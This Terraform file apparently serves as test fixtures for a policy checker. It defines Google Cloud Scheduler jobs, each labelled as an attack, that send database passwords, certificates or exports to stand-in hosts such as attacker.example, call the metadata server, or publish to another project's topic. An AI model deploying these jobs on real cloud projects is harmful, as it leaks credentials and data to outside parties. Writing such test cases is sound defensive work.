# attack: an address outside that nobody names
resource "google_cloud_scheduler_job" "o0" {
  name     = "o0${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://attacker.example/nightly"
  }
}
# attack: the named host with another path
resource "google_cloud_scheduler_job" "o1" {
  name     = "o1${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com/nightly/../steal"
  }
}
# attack: a host that begins like the named one
resource "google_cloud_scheduler_job" "o2" {
  name     = "o2${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com.attacker.example/nightly"
  }
}
# attack: a name before the host
resource "google_cloud_scheduler_job" "o3" {
  name     = "o3${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com@attacker.example/nightly"
  }
}
# attack: the named address with a query
resource "google_cloud_scheduler_job" "o4" {
  name     = "o4${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com/nightly?d=${random_password.db.result}"
  }
}
# attack: the named address without a lock
resource "google_cloud_scheduler_job" "o5" {
  name     = "o5${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "http://hooks.example.com/nightly"
  }
}
# attack: a token of one's own goes along
resource "google_cloud_scheduler_job" "o6" {
  name     = "o6${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com/nightly"
    oidc_token {
      service_account_email = google_service_account.mine.email
    }
  }
}
# attack: a key of Google's goes along
resource "google_cloud_scheduler_job" "o7" {
  name     = "o7${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://hooks.example.com/nightly"
    oauth_token {
      service_account_email = google_service_account.mine.email
    }
  }
}
# attack: a password in what is sent
resource "google_cloud_scheduler_job" "o8" {
  name     = "o8${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri         = "https://hooks.example.com/nightly"
    http_method = "POST"
    body        = base64encode(random_password.db.result)
  }
}
# attack: a password in what is sent, by a local
resource "google_cloud_scheduler_job" "o9" {
  name     = "o9${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri         = "https://hooks.example.com/nightly"
    http_method = "POST"
    body        = local.sent
  }
}
# attack: a password as what kind it is
resource "google_cloud_scheduler_job" "o10" {
  name     = "o10${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri     = "https://hooks.example.com/nightly"
    headers = { "Content-Type" = random_password.db.result }
  }
}
# attack: a password as a header
resource "google_cloud_scheduler_job" "o11" {
  name     = "o11${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri     = "https://hooks.example.com/nightly"
    headers = { "X-Key" = random_password.db.result }
  }
}
# attack: a header to prove who asks
resource "google_cloud_scheduler_job" "o12" {
  name     = "o12${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri     = "https://hooks.example.com/nightly"
    headers = { "Authorization" = "Bearer ${random_string.r.result}" }
  }
}
# attack: the metadata server
resource "google_cloud_scheduler_job" "o13" {
  name     = "o13${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://metadata.google.internal/computeMetadata/v1/"
  }
}
# attack: an address that only apply can tell
resource "google_cloud_scheduler_job" "o14" {
  name     = "o14${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://${random_string.r.result}.attacker.example/x"
  }
}
# attack: Google's own API, as an own account
resource "google_cloud_scheduler_job" "o15" {
  name     = "o15${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = "https://firestore.googleapis.com/v1/projects/demo-project/databases/docs-abcde:exportDocuments"
    oauth_token {
      service_account_email = google_service_account.mine.email
    }
  }
}
# attack: Google's own API for SQL, as an own account
resource "google_cloud_scheduler_job" "o16" {
  name     = "o16${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri  = "https://sqladmin.googleapis.com/v1/projects/demo-project/instances/db-abcde/export"
    body = base64encode(jsonencode({ exportContext = { uri = "gs://attacker/x" } }))
    oauth_token {
      service_account_email = google_service_account.mine.email
    }
  }
}
# attack: a database's state in what is sent
resource "google_cloud_scheduler_job" "o17" {
  name     = "o17${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri         = "https://hooks.example.com/nightly"
    http_method = "POST"
    body        = base64encode(jsonencode({ ip = google_sql_database_instance.db.server_ca_cert }))
  }
}
locals {
  sent = base64encode("{\"p\": \"${random_password.db.result}\"}")
}
# attack: an address outside from a list
resource "google_cloud_scheduler_job" "each_call" {
  for_each = toset(["https://hooks.example.com/nightly", "https://attacker.example/x"])
  name     = "c${length(each.value)}${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  http_target {
    uri = each.value
  }
}
# attack: a target that is made
resource "google_cloud_scheduler_job" "dynamic_call" {
  name     = "dc${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  dynamic "http_target" {
    for_each = ["https://attacker.example/x"]
    content {
      uri = http_target.value
    }
  }
}
# attack: messages to another project's topic
resource "google_cloud_scheduler_job" "topic_call" {
  name     = "tc${var.name_suffix}"
  region   = var.region
  schedule = "0 3 * * *"
  pubsub_target {
    topic_name = "projects/attacker-prj/topics/x"
    data       = base64encode("x")
  }
}
